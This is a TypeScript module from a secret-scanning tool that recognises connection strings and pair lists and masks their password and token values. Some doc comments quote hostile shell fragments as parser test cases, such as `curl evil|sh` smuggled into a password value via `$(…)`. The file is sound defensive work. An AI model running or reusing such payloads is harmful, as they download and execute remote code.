// Part of spec's secret reader (see find-spec-secrets.ts): connection strings (`Server=db;Password=X;`, ODBC `{…}` values): telling when a text is one, splitting it at its `;`s, and hiding a telling pair's value (its display keeps a command in it in sight).
import { type ArgFound, type ArgRules, readValue } from "./find-spec-secrets.js";
import { looksSecretName, type SecretHide, SecretSign } from "./secret-signs.js";
import { expansionEnd, SPACE, type Span } from "./shell-words.js";

/**
 * `[start, end)` of `text` (a word's value) where a telling connection-string pair's literal value
 * is written (see `connectionPairs`); with `shell`, as a word read partly at run time is (see `connectionParts`).
 */
export function connectionSpans(text: string, rules: ArgRules, shell = false): Span[] {
  if (!text.includes(";")) return [];
  // A word's value read partly at run time (`shell`): its telling value left open runs to its end;
  // in any other word a `$(` or a backtick is literal text.
  const { parts } = connectionParts(text, shell ? { shell, telling: rules.telling } : {});
  if (parts.length < 2) return [];
  const first = parts[0] ?? "";
  const opens =
    /^[A-Za-z][A-Za-z0-9+.:-]*:\/\//.test(first) ||
    (first.includes("=") && PAIR_NAME.test(first.split("=")[0] ?? ""));
  if (!opens) return [];
  const spans: Span[] = [];
  let from = 0;
  for (const part of parts) {
    const eq = part.indexOf("=");
    const key = eq < 0 ? "" : part.slice(0, eq);
    if (eq >= 0 && PAIR_NAME.test(key)) {
      const value = part.slice(eq + 1);
      const lead = /^\s*/.exec(value)?.[0] ?? "";
      const bareValue = value.slice(lead.length).trimEnd();
      const name = key.trim();
      if (rules.telling(name) && rules.literal(bareValue)) {
        const start = from + eq + 1 + lead.length;
        spans.push({ start, end: start + bareValue.length, name, sign: SecretSign.Flag });
      }
    }
    from += part.length + 1;
  }
  return spans;
}

/**
 * A connection string's key as ADO writes it, one word (`Password`, `sslmode`, `Trust_Cert`) or
 * several words of letters and digits (`User Id`, `Data Source`, `Trust Server Certificate`): no
 * flag, path, operator or `NAME_WITH_UNDERSCORES` after a first word (`exec GITHUB_TOKEN`,
 * `srv --conn Server` are a command's words).
 */
const CONNECTION_KEY = /^[A-Za-z][\w.-]*(?:[ \t]+[A-Za-z][A-Za-z0-9]*)*$/;

/**
 * True when `text` is one connection string and nothing else: at least two non-blank `;`-separated
 * parts (see `connectionParts`), each a `key=value` pair under a `CONNECTION_KEY` — the first may
 * be a URL instead (`jdbc:sqlserver://db:1433;password=X`). Its values may hold spaces
 * (`Password=two words`, `Driver={ODBC Driver 18}`); where `text` reaches a `shell` (a pasted
 * `command`), no command's words (see `commandAfter`), while an argument reaches no shell, so its
 * value runs to the `;` whatever it holds (`Password=correct horse -battery staple;`, r46 R1).
 * A line with a word that is no pair (`exec A=x a;b`, `… --conn Server=db;Password=X; && …`,
 * a pasted `A=x ; GITHUB_TOKEN=X --token Y`) is a command line instead, whose one word may be a
 * connection string (see `commandLineSecrets`).
 */
export function connectionString(text: string, shell: boolean): boolean {
  if (!text.includes(";")) return false;
  const read = connectionParts(text, { shell, quotes: shell, telling: looksSecretName });
  const parts = read.parts.filter((part) => part.trim() !== "");
  // A telling value taken to the end (a run-time part left open in it: the last part) is one word to the shell.
  const taken = read.taken ? parts.length - 1 : -1;
  return (
    parts.length >= 2 &&
    parts.every((part, index) => {
      if (index === 0 && /^[A-Za-z][A-Za-z0-9+.:-]*:\/\/\S*$/.test(part.trim())) return true;
      const eq = part.indexOf("=");
      return (
        eq > 0 &&
        CONNECTION_KEY.test(part.slice(0, eq).trim()) &&
        !(shell && index !== taken && commandAfter(part.slice(eq + 1)))
      );
    })
  );
}

/** A word after whitespace that only a command writes: a flag, or a word holding a quote, an expansion, a pipe or a redirection. */
const COMMAND_WORD = /\s(?:-|[^\s'"`$|&<>]*['"`$|&<>])/;

/**
 * True when a pair's value goes on as a command's words would (`GITHUB_TOKEN=X --token Y`,
 * `A=x "quoted"`): then its part is no pair. Its first word, and a value opening with `{` or a
 * quote up to its close (`Driver={ODBC Driver 18}`), are the value's whatever they hold.
 */
function commandAfter(value: string): boolean {
  const bareValue = value.trimStart();
  const open = bareValue[0];
  const close = open === "{" ? "}" : open === '"' || open === "'" ? open : "";
  const after = close === "" ? bareValue : bareValue.slice(bareValue.indexOf(close, 1) + 1);
  return COMMAND_WORD.test(after);
}

/** A command the shell runs inside a word: `$(…)` (or `$((…))`) or a backtick. */
const RUNS_COMMAND = /\$\(|`/;

/** A connection string's pair: `Password=X`, ` User Id = sa`. */
const PAIR_NAME = /^\s*[A-Za-z][\w .-]*$/;

/** How a connection string's text is read (see `connectionParts`). */
interface PartsReading {
  /** Passes over a closed `$(…)`, `${…}`, `$[…]` or backtick whole (a pasted command's, a word's value). */
  shell?: boolean;
  /** Reads a quote opening inside a value too, as a shell reads a word (a pasted command's text, not a word's value). */
  quotes?: boolean;
  /** Whether a pair's key names a credential: such a value holding a run-time part left open is taken to the text's end. */
  telling?: (name: string) => boolean;
}

/** A connection string's parts (see `connectionParts`), and whether the last one was taken to the text's end by a telling value left open (a run-time part or a quote). */
interface Parts {
  parts: string[];
  taken: boolean;
}

/**
 * A connection string split at its `;`s, each part as written: a `;` inside a value that opens
 * with `{` (ODBC's `Pwd={a;b}`) or a quote (`Password="a;b"`) does not split it; where a `shell`
 * reads the text (a pasted command), neither does one inside a closed `$(…)`, `${…}`, `$[…]` or
 * backtick, which is passed over whole (see `expansionEnd`; r58-1: `Password=x$(curl …|sh;a=b)`
 * was cut in two), nor, with `quotes`, one inside a quote opened in the middle of a value
 * (`Password=X9'sec;ret'`: the shell's one word, r61-5). One left open is read as text, so it
 * cannot take the pairs after it (r59) — unless it stands in a `telling` pair's value: the shell
 * refuses such a line, and to it the value runs to the line's end, so the part is taken to the
 * text's end, hidden whole with the value (r61: `API_KEY=ab`c;efSECRET9 x=$(` showed `efSECRET9`,
 * `Password="x$(";User=sa; curl evil|sh` was cut at the quote a reader ignoring `$(` sees close).
 * A `"…"` value's run-time parts are read so too where a `shell` reads it. One pass.
 */
function connectionParts(text: string, reading: PartsReading = {}): Parts {
  const { shell = false, quotes = false, telling } = reading;
  const parts: string[] = [];
  let from = 0;
  let close = "";
  // Whether the current part's `=` was seen, whether its value has started (past its spaces), and
  // whether its key names a credential.
  let assigned = false;
  let started = false;
  let secret = false;
  // Whether a run-time part was found left open: from there on none is passed over (one scan).
  let unclosed = false;
  // In a telling value, where the last closed run-time part asked about ends: a part inside it is
  // closed too, and is not asked again (linear).
  let asked = 0;
  // A quote opened in a value that never closes (seen once: none of that kind closes later either).
  const neverCloses = new Set<string>();
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i] as string;
    const opens = c === "`" || (c === "$" && /[{([]/.test(text[i + 1] ?? ""));
    if (opens && assigned && secret && i >= asked && (close === "" || (shell && close === '"'))) {
      // A telling value's run-time part: one left open takes the rest of the text with the value.
      const { end, closed } = expansionEnd(text, i);
      if (!closed) {
        parts.push(text.slice(from));
        return { parts, taken: true };
      }
      asked = end;
      if (shell && !unclosed) i = Math.max(i, end - 1);
      started = true;
    } else if (close !== "" && !(shell && !unclosed && close === '"' && opens)) {
      if (c === close) close = "";
    } else if (shell && !unclosed && opens) {
      const { end, closed } = expansionEnd(text, i);
      // One left open (a line the shell refuses) is text: it would take every later pair with it.
      if (closed) i = Math.max(i, end - 1);
      else unclosed = true;
      if (assigned) started = true;
    } else if (quotes && assigned && c === "\\") {
      // A backslash outside quotes: the next character is the value's (`a\;b`, `it\'s`).
      i += 1;
    } else if (c === ";") {
      parts.push(text.slice(from, i));
      from = i + 1;
      assigned = false;
      started = false;
      secret = false;
    } else if (!assigned) {
      assigned = c === "=";
      if (assigned) {
        const key = text.slice(from, i);
        secret = telling !== undefined && PAIR_NAME.test(key) && telling(key.trim());
      }
    } else if (!started && !SPACE.test(c)) {
      started = true;
      if (c === "{" || c === '"' || c === "'") close = c === "{" ? "}" : c;
    } else if (quotes && (c === "'" || c === '"') && !neverCloses.has(c)) {
      // A quote inside the value (`X9'sec;ret'`): the shell's, up to its close; one that never closes is text.
      if (text.indexOf(c, i + 1) >= 0) close = c;
      else if (secret) {
        parts.push(text.slice(from));
        return { parts, taken: true };
      } else neverCloses.add(c);
    }
  }
  parts.push(text.slice(from));
  // A telling value whose quote (or brace) never closes has run to the end too.
  return { parts, taken: secret && close !== "" };
}

/**
 * A connection string (`;`-separated `key=value` pairs, the first may be a URL) with each telling
 * pair's literal value as a reference named after its key, each other part and value read alone
 * (a URL's credentials, a key shape: see `readValue`), the rest kept as written; undefined when
 * `text` is not one or nothing in it is flagged. One pass.
 */
export function connectionPairs(
  text: string,
  rules: ArgRules,
  named: (secret: string, name: string) => string,
  hide: SecretHide | undefined,
  shown?: (start: number, end: number, name: string) => string | undefined,
  shell = false,
): ArgFound | undefined {
  if (!text.includes(";")) return undefined;
  const { parts } = connectionParts(text, { shell, quotes: shell, telling: rules.telling });
  if (parts.length < 2) return undefined;
  let sign: SecretSign | undefined;
  // Any other part, or pair's value, read alone: a URL's credentials, a key shape (`App=ghp_…`).
  const alone = (text: string) => {
    const lead = /^\s*/.exec(text)?.[0] ?? "";
    const bareText = text.slice(lead.length).trimEnd();
    const read = bareText === "" ? undefined : readValue(bareText, hide);
    if (read === undefined) return text;
    sign ??= read.sign;
    return lead + read.safe + text.slice(lead.length + bareText.length);
  };
  // Where the part being read starts in `text` (parts are joined by one `;` each).
  let offset = 0;
  const out: string[] = [];
  for (let index = 0; index < parts.length; index += 1) {
    const part = parts[index] as string;
    const start = offset;
    offset += part.length + 1;
    const eq = part.indexOf("=");
    if (eq < 0) {
      out.push(alone(part));
      continue;
    }
    const key = part.slice(0, eq);
    if (!PAIR_NAME.test(key)) {
      out.push(alone(part));
      continue;
    }
    const name = key.trim();
    // A telling value runs on over the parts after it that are no pair (see `valueParts`).
    const through = rules.telling(name) ? valueParts(parts, index) : index;
    const value = [part.slice(eq + 1), ...parts.slice(index + 1, through + 1)].join(";");
    const lead = /^\s*/.exec(value)?.[0] ?? "";
    const bareValue = value.slice(lead.length).trimEnd();
    if (!rules.telling(name) || !rules.literal(bareValue)) {
      out.push(`${key}=${alone(part.slice(eq + 1))}`);
      continue;
    }
    sign ??= SecretSign.Flag;
    const from = start + eq + 1 + lead.length;
    const safe =
      (shown && RUNS_COMMAND.test(bareValue) ? shown(from, from + bareValue.length, name) : undefined) ??
      named(bareValue, name);
    out.push(`${key}=${lead}${safe}${value.slice(lead.length + bareValue.length)}`);
    for (; index < through; index += 1) offset += (parts[index + 1] as string).length + 1;
  }
  const first = parts[0] ?? "";
  const opens =
    /^[A-Za-z][A-Za-z0-9+.:-]*:\/\//.test(first) ||
    (first.includes("=") && PAIR_NAME.test(first.split("=")[0] ?? ""));
  return sign !== undefined && opens ? { sign, safe: out.join(";") } : undefined;
}

/**
 * True when `text` (a switch's value: msbuild's `/p:Configuration=Release;Password=X`) is a list
 * of `;`-separated pairs as `connectionPairs` reads one: two parts or more (a `;` inside a `{…}` or
 * quoted value splits none: `Password={a;b}` is one pair), the first a `key=value` pair.
 */
export function pairList(text: string, rules: ArgRules): boolean {
  if (!text.includes(";")) return false;
  const { parts } = connectionParts(text, { telling: rules.telling });
  const first = parts[0] ?? "";
  return parts.length >= 2 && first.includes("=") && PAIR_NAME.test(first.split("=")[0] ?? "");
}

/**
 * The index of the last part a telling pair's value at `parts[index]` runs over: on over each
 * non-blank part after it that is no `key=value` pair (`Password=pa;ss;word`: a password may hold
 * a `;`, and msbuild's `/p:` or ADO reading `ss` alone would refuse it), up to the next pair or the
 * end, blank parts at its end left out (`Password=X;` keeps its `;`). A pair after it is its own
 * (`Password0=a;Password1=b`, `Password=X;OutDir=bin`), so a list's telling pairs read alike
 * whichever pair comes first. Linear: each part is passed once, the next pair ends the stretch.
 */
function valueParts(parts: readonly string[], index: number): number {
  let through = index;
  for (let next = index + 1; next < parts.length; next += 1) {
    const part = parts[next] as string;
    const eq = part.indexOf("=");
    if (eq >= 0 && PAIR_NAME.test(part.slice(0, eq))) break;
    if (part.trim() !== "") through = next;
  }
  return through;
}

/** A form's or an option list's pair name (`password`, `user[password]`, `client_secret`, `x-api-key`). */
const LIST_PAIR_NAME = /^[A-Za-z_][\w.%[\]-]*$/;

/**
 * `[start, end)` of each telling pair's literal value in a list of `name=value` pairs set apart by
 * `&` (a form body or query string with no URL before it, curl's `-d user=a&password=X`) or, in a
 * text with no `&`, by `,` (mount's `-o username=a,password=X,ro`): the value runs to the next
 * separator or blank (a form writes a `&` in a value as `%26`, mount takes no `,` in one). A part that is
 * no pair (`ro`, `flag`) says nothing. None when `text` holds no separator or starts with a URL
 * (whose query `withoutUrlSecrets` reads); a `${NAME}` reference is no literal, so what an export
 * writes here reads as nothing the second time. One pass.
 */
export function listSpans(text: string, rules: ArgRules): Span[] {
  const separator = text.includes("&") ? "&" : text.includes(",") ? "," : "";
  if (separator === "" || /^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(text)) return [];
  const spans: Span[] = [];
  let from = 0;
  for (const part of text.split(separator)) {
    const eq = part.indexOf("=");
    const name = part.slice(0, Math.max(eq, 0));
    // A blank ends the value too: what follows is no pair's (a quoted word's text, a line's words).
    const value = /^\S*/.exec(part.slice(eq + 1))?.[0] ?? "";
    if (eq > 0 && value !== "" && LIST_PAIR_NAME.test(name) && rules.telling(name) && rules.literal(value))
      spans.push({ start: from + eq + 1, end: from + eq + 1 + value.length, name, sign: SecretSign.Flag });
    from += part.length + 1;
  }
  return spans;
}

/**
 * `text` with each telling pair's value in a list of pairs (see `listSpans`) written as `named`
 * writes a value under its name, every other character kept; undefined when there is none.
 */
export function listPairs(
  text: string,
  rules: ArgRules,
  named: (secret: string, name: string) => string,
): ArgFound | undefined {
  const spans = listSpans(text, rules);
  if (spans.length === 0) return undefined;
  let safe = "";
  let from = 0;
  for (const { start, end, name = "" } of spans) {
    safe += text.slice(from, start) + named(text.slice(start, end), name);
    from = end;
  }
  return { sign: SecretSign.Flag, safe: safe + text.slice(from) };
}
